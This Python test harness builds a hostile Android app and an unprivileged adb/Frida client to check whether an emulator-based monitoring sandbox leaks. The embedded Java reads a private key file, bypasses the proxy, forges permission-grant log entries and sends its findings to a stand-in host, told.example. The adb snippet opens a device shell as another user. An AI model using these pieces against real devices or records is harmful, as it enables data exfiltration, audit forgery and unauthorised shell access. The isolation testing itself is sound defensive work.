"""What a hostile app, and another user of the machine, get from a session on the stand-in device."""

from __future__ import annotations

import contextlib
import json
import os
import re
import select
import shutil
import socket
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

NOBODY = 65534
_PACKAGE = "org.example.hostile"
_MANIFEST = f"""<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="{_PACKAGE}">
<uses-permission android:name="android.permission.INTERNET"/><uses-permission android:name="android.permission.CAMERA"/>
<application><activity android:name=".Main" android:exported="true"><intent-filter>
<action android:name="android.intent.action.MAIN"/><category android:name="android.intent.category.LAUNCHER"/>
</intent-filter></activity></application></manifest>"""
_SOURCE = """package org.example.hostile;
import java.net.*;
import java.nio.file.*;
public class Main extends android.app.Activity {
    @Override protected void onCreate(android.os.Bundle state) {
        super.onCreate(state);
        new Thread(() -> {
            String key, past, uid;
            try { key = "" + Files.readAllBytes(Path.of("KEY")).length; }
            catch (Throwable e) { key = "none"; }
            try (Socket s = new Socket(Proxy.NO_PROXY)) {
                s.connect(new InetSocketAddress("127.0.0.1", PORT), 1500);
                s.getOutputStream().write("past the proxy\\n".getBytes());
                past = "written";
            } catch (Throwable e) { past = "none"; }
            try {
                Process id = new ProcessBuilder("/usr/bin/id", "-u").start();
                uid = new String(id.getInputStream().readAllBytes()).trim();
            }
            catch (Throwable e) { uid = "none"; }
            for (int i = 0; i < 3; i++)
                android.util.Log.i("GrantPermissionsViewModel", "Permission grant result requestId=7 callingUid="
                    + android.os.Process.myUid() + " callingPackage=org.example.hostile"
                    + " permission=android.permission.CAMERA isImplicit=false result=4");
            try {
                HttpURLConnection c = (HttpURLConnection) new URL(
                    "http://told.example/key-" + key + "/socket-" + past + "/uid-" + uid).openConnection();
                c.setConnectTimeout(5000);
                c.getResponseCode();
            } catch (Throwable e) { }
        }).start();
    }
}
"""
_SCENARIO = f"""appId: {_PACKAGE}
app: {{app}}
name: hostile
title: {{en: Hostile app, zh: 恶意应用}}
---
- launchApp: {{clearState: true}}
- idle: 6s
"""
#: What another user's program says on the adb port; it prints what ``id`` answers in the device's shell.
_ADB = """
import socket, struct, sys
def send(s, command, a, b, data=b""):
    n = int.from_bytes(command, "little")
    s.sendall(struct.pack("<6I", n, a, b, len(data), sum(data) & 0xFFFFFFFF, n ^ 0xFFFFFFFF) + data)
def read(s):
    head = b""
    while len(head) < 24:
        more = s.recv(24 - len(head))
        if not more: sys.exit("closed")
        head += more
    n, a, b, size = struct.unpack("<6I", head)[:4]
    data = b""
    while len(data) < size: data += s.recv(size - len(data))
    return n.to_bytes(4, "little"), a, data
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5)
s.settimeout(10)
send(s, b"CNXN", 0x01000001, 1 << 20, b"host::\\0")
read(s)
send(s, b"OPEN", 1, 0, b"shell:id\\0")
while True:
    command, remote, data = read(s)
    if command == b"WRTE":
        print(data.decode().strip())
        break
    if command == b"CLSE": sys.exit("refused")
"""
#: The same on every other port: whose processes does Frida list there?
_FRIDA = """
import sys, frida
for port in sys.argv[1:]:
    try:
        device = frida.get_device_manager().add_remote_device("127.0.0.1:" + port)
        print("attached:", len(device.enumerate_processes()), "processes listed"); break
    except Exception as e: print("refused:", type(e).__name__)
"""


@dataclass
class Session:
    """Per question: what happened, and whether the attack worked."""

    answers: dict[str, tuple[str, bool]] = field(default_factory=dict)


def session(root: Path, work: Path) -> Session:
    """Run the hostile app in a session of this tree, then talk to a device of it as another user. Raises
    ``RuntimeError`` where that is impossible."""
    if shutil.which("javac") is None:
        raise RuntimeError("needs javac 17 (a JDK)")
    work.mkdir()
    found = Session()
    bundle = work / "bundle"
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        app = _build(root, work, bundle / "private/key", listener.getsockname()[1])
        scenario = work / "hostile.yaml"
        scenario.write_text(_SCENARIO.replace("{app}", str(app)), "utf-8")
        done = subprocess.run(
            [sys.executable, "-m", "monitor", "run", str(scenario), "--app", str(app), "--out", str(bundle)],
            cwd=root, env=_environment(root), capture_output=True, text=True, timeout=300, stdin=subprocess.DEVNULL,
        )  # fmt: skip
        reached = bool(select.select([listener], [], [], 0)[0])
    events = [json.loads(line) for path in bundle.glob("data/events/*.jsonl") for line in path.open(encoding="utf-8")]
    told = next((e["path"] for e in events if e["kind"] == "transmission" and e["host"] == "told.example"), "")
    if not told:
        raise RuntimeError(f"the session did not hear of the app: exit {done.returncode}: {done.stderr[-80:]}")
    read = re.findall(r"/key-(\w+)", told)[0]
    uid = re.findall(r"/uid-(\w+)", told)[0]
    granted = sum(e["kind"] == "permission_result" for e in events)
    found.answers["key"] = (f"bytes of the key that the app read: {read}", read != "none")
    found.answers["socket"] = (f"connected past the proxy: {'yes' if reached else 'no'}", reached)
    found.answers["uid"] = (f"the app's user: {uid}; the recorder's: {os.geteuid()}", uid == str(os.geteuid()))
    found.answers["forged"] = (f"granted permissions in the record: {granted}", granted > 0)
    found.answers.update(_neighbour(root))
    return found


def _neighbour(root: Path) -> dict[str, tuple[str, bool]]:
    """What another user gets from the device's ports."""
    if os.geteuid() != 0:
        return dict.fromkeys(("shell", "portal"), ("not run: needs root, to become another user", False))
    with _device(root) as (pid, port):
        others = [p for p in _listening(pid) if p != port]
        shell = _as_nobody("/usr/bin/python3", "-I", "-c", _ADB, str(port))
        portal = _as_nobody(sys.executable, "-c", _FRIDA, *map(str, others))
    return {
        "shell": (f"another user's shell on the device: {shell}", shell.startswith("uid=")),
        "portal": (f"another user at Frida's ports ({len(others)}): {portal or 'none'}", "attached" in portal),
    }


def _as_nobody(*command: str) -> str:
    done = subprocess.run(
        command, user=NOBODY, group=NOBODY, extra_groups=[], cwd="/", capture_output=True, text=True, timeout=60
    )
    return (done.stdout.strip() or done.stderr.strip()).splitlines()[-1][:80] if done.stdout or done.stderr else ""


@contextlib.contextmanager
def _device(root: Path) -> Iterator[tuple[int, int]]:
    """A stand-in of this tree: pid and adb port."""
    process = subprocess.Popen(
        [sys.executable, "-m", "standin", "--port", "0"], cwd=root, text=True, stdin=subprocess.PIPE,
        env=_environment(root, "emulator"), stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        assert process.stdout
        said = json.loads(process.stdout.readline())
        yield said["pid"], said["port"]
    finally:
        process.terminate()
        process.wait(30)


def _listening(pid: int) -> list[int]:
    """TCP ports on which a process listens."""
    sockets = set()
    for link in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            sockets.add(str(link.readlink()))
    rows = [line.split() for line in Path(f"/proc/{pid}/net/tcp").read_text().splitlines()[1:]]
    return [int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A" and f"socket:[{row[9]}]" in sockets]


def _environment(root: Path, place: str = "") -> dict[str, str]:
    return os.environ | {"PYTHONPATH": str(root / place), "PYTHONUTF8": "1"}


def _build(root: Path, work: Path, key: Path, port: int) -> Path:
    source, classes = work / "Main.java", work / "out/classes"
    source.write_text(_SOURCE.replace('"KEY"', json.dumps(str(key))).replace("PORT", str(port)), "utf-8")
    done = subprocess.run(
        ["javac", "--release", "17", "-cp", str(root / "emulator/java/standin.jar"), "-d", str(classes), str(source)],
        capture_output=True, text=True,
    )  # fmt: skip
    if done.returncode:
        raise RuntimeError(done.stderr[-100:])
    app = work / "hostile.apk"
    with zipfile.ZipFile(app, "w") as archive:
        archive.writestr("AndroidManifest.xml", _MANIFEST)
        for path in classes.rglob("*.class"):
            archive.write(path, path.relative_to(work / "out").as_posix())
    return app
